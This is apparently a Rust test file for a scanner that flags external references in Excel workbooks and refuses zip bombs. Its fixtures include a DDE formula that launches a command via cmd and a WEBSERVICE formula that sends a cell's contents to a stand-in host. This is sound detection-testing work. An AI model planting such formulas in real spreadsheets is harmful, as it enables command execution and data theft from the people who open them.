use super::*;
use std::io::Write;

fn workbook(parts: &[(&str, &str)]) -> tempfile::NamedTempFile {
    let file = tempfile::NamedTempFile::new().unwrap();
    let mut zip = zip::ZipWriter::new(file.reopen().unwrap());
    for (name, body) in parts {
        zip.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.write_all(body.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
    file
}

fn sheet(formulas: &[&str]) -> String {
    let cells: String = formulas
        .iter()
        .map(|f| format!("<c r=\"A1\"><f>{f}</f><v>0</v></c>"))
        .collect();
    format!("<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>")
}

fn scan(file: &tempfile::NamedTempFile) -> Vec<ExternalReference> {
    scan_workbook(file.path(), "out.xlsx", &mut Budget::default()).unwrap()
}

fn kinds(found: &[ExternalReference]) -> Vec<&str> {
    found.iter().map(|f| f.kind.as_str()).collect()
}

#[test]
fn finds_each_kind_of_outside_reach() {
    let body = sheet(&[
        "WEBSERVICE(&quot;http://x.test/?d=&quot;&amp;A2)",
        "FILTERXML(B1,&quot;//a&quot;)&amp;FILTERXML(&quot;&lt;a href=&apos;https://x&apos;/&gt;&quot;,&quot;//a&quot;)",
        "cmd|&apos;/c calc&apos;!A0",
        "[1]Sheet1!A1*2",
        "RTD(&quot;prog.id&quot;,,&quot;x&quot;)",
    ]);
    let file = workbook(&[
        ("xl/worksheets/sheet1.xml", &body),
        ("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        ("xl/connections.xml", "<connections/>"),
    ]);
    let found = scan(&file);
    assert_eq!(
        kinds(&found),
        [
            "webservice",
            "filterxml_url",
            "dde",
            "external_workbook",
            "rtd",
            "external_link",
            "data_connection"
        ]
    );
    assert_eq!(found[0].detail, "WEBSERVICE(\"http://x.test/?d=\"&A2)");
    assert_eq!(found[0].part, "xl/worksheets/sheet1.xml");
    assert_eq!(found[0].file, "out.xlsx");
}

#[test]
fn formulas_outside_cells_are_read_too() {
    let workbook_xml = "<workbook><definedNames><definedName name=\"feed\">\
         _xlfn.WEBSERVICE(&quot;http://x.test/n&quot;)</definedName>\
         <definedName name=\"ok\">Sheet1!$A$1:$A$9</definedName></definedNames></workbook>";
    let sheet_xml = "<worksheet><sheetData/>\
         <conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\">\
         <formula>LEN(WEBSERVICE(&quot;http://x.test/cf&quot;))&gt;0</formula></cfRule>\
         </conditionalFormatting>\
         <dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"B1\">\
         <formula1>[2]Lists!$A$1:$A$5</formula1></dataValidation></dataValidations>\
         <extLst><ext><x14:dataValidations><x14:dataValidation><x14:formula1>\
         <xm:f>RTD(&quot;a&quot;,,&quot;b&quot;)</xm:f></x14:formula1>\
         </x14:dataValidation></x14:dataValidations></ext></extLst>\
         <sheetData><row><c r=\"C1\"><f>_xlfn.IMAGE(&quot;https://x.test/p.png&quot;)</f></c>\
         <c r=\"C2\"><f>HYPERLINK(&quot;https://x.test/&quot;&amp;A1,&quot;go&quot;)</f></c>\
         <c r=\"C3\"><f>HYPERLINK( &quot;#Sheet2!A1&quot;, &quot;there&quot;)</f></c>\
         <c r=\"C4\"><f>HYPERLINK(A1)</f></c></row></sheetData></worksheet>";
    let rels = "<Relationships xmlns=\"x\">\
         <Relationship Id=\"rId1\" Type=\"http://schemas/relationships/hyperlink\" \
         Target=\"https://x.test/?a=1&amp;b=2\" TargetMode=\"External\"/>\
         <Relationship Id=\"rId2\" Type=\"http://schemas/relationships/image\" \
         Target=\"file:///c:/img.png\" TargetMode='External'/>\
         <Relationship Id=\"rId3\" Type=\"http://schemas/relationships/drawing\" \
         Target=\"../drawings/drawing1.xml\"/></Relationships>";
    let file = workbook(&[
        ("xl/workbook.xml", workbook_xml),
        ("xl/worksheets/sheet1.xml", sheet_xml),
        ("xl/worksheets/_rels/sheet1.xml.rels", rels),
    ]);
    let found = scan(&file);
    assert_eq!(
        kinds(&found),
        [
            "webservice",
            "webservice",
            "external_workbook",
            "rtd",
            "image_url",
            "hyperlink",
            "hyperlink",
            "external_hyperlink",
            "external_target",
        ],
        "{found:#?}"
    );
    assert_eq!(found[0].part, "xl/workbook.xml");
    assert_eq!(found[7].detail, "https://x.test/?a=1&b=2");
    assert_eq!(found[8].detail, "file:///c:/img.png");
}

#[test]
fn ordinary_formulas_are_not_reported() {
    let body = sheet(&[
        "SUM(B2:B9)",
        "IF(A1=&quot;a|b!&quot;,1,0)",
        "Table1[Amount]*2",
        "SUM(Table1[[#This Row],[a]:[b]])",
        "Sheet2!A1+&apos;My Sheet&apos;!B2",
        "HYPERLINK(&quot;#Sheet2!A1&quot;)",
        "COUNTIF(Hidden!A1:A9,&quot;x&quot;)",
        "MYIMAGE(1)+IMAGES!A1",
    ]);
    let file = workbook(&[("xl/worksheets/sheet1.xml", &body)]);
    assert_eq!(scan(&file), []);
}

#[test]
fn a_file_that_is_not_a_zip_yields_nothing() {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), b"not a zip").unwrap();
    assert!(scan(&file).is_empty());
}

#[test]
fn unescape_decodes_named_and_numeric_entities_once() {
    assert_eq!(
        unescape("a&amp;lt;b&#60;&#x3E;&quot;&bogus;&"),
        "a&lt;b<>\"&bogus;&"
    );
}

#[test]
fn overlapping_entries_are_refused_before_inflating() {
    let file = tempfile::NamedTempFile::new().unwrap();
    let mut zip = zip::ZipWriter::new(file.reopen().unwrap());
    zip.start_file(
        "xl/worksheets/sheet1.xml",
        zip::write::SimpleFileOptions::default(),
    )
    .unwrap();
    zip.write_all(sheet(&["SUM(1)"]).as_bytes()).unwrap();
    for i in 2..50 {
        zip.shallow_copy_file(
            "xl/worksheets/sheet1.xml",
            &format!("xl/worksheets/sheet{i}.xml"),
        )
        .unwrap();
    }
    zip.finish().unwrap();
    let refused = scan_workbook(file.path(), "out.xlsx", &mut Budget::default()).unwrap_err();
    assert!(refused.contains("overlap"), "{refused}");
}

#[test]
fn parts_that_inflate_too_far_are_refused() {
    // 16 MiB of one byte deflates about a thousand times: no sheet does that.
    let zeros = "0".repeat(16 << 20);
    let file = workbook(&[("xl/worksheets/sheet1.xml", &zeros)]);
    let refused = scan_workbook(file.path(), "out.xlsx", &mut Budget::default()).unwrap_err();
    assert!(refused.contains("times its compressed size"), "{refused}");

    // Within the ratio, but past the budget for the whole collect.
    let body = sheet(&["SUM(1)"; 2000]);
    let file = workbook(&[("xl/worksheets/sheet1.xml", &body)]);
    let mut small = Budget::new(10_000, Duration::from_secs(10));
    let refused = scan_workbook(file.path(), "out.xlsx", &mut small).unwrap_err();
    assert!(refused.contains("scan budget"), "{refused}");
    // The default budget reads it.
    assert_eq!(scan(&file), []);
}

#[test]
fn the_formula_scan_is_linear_in_the_formula() {
    // 150 cells of 32,760 `[` took 76 s when each `[` searched to the end for its `]`.
    // Letters between them keep the part from compressing past the ratio cap.
    let mut seed = 7u32;
    let flood: String = (0..16_380)
        .flat_map(|_| {
            seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12_345);
            ['[', char::from(b'a' + (seed >> 16) as u8 % 26)]
        })
        .collect();
    let body = sheet(&vec![flood.as_str(); 150]);
    let mut opened = "[]!".repeat(10_000);
    opened.push_str("[1]Sheet1!A1");
    opened.push_str(&flood);
    let body2 = sheet(&[
        opened.as_str(),
        &flood.replace('[', "("),
        &flood.replace('[', "&amp;"),
    ]);
    let file = workbook(&[
        ("xl/worksheets/sheet1.xml", &body),
        ("xl/worksheets/sheet2.xml", &body2),
    ]);
    let started = Instant::now();
    let found = scan(&file);
    let took = started.elapsed();
    assert_eq!(kinds(&found), ["external_workbook"]);
    // Linear: a few milliseconds; quadratic would be minutes. Generous for a loaded host.
    assert!(took < Duration::from_secs(3), "{took:?}");
}
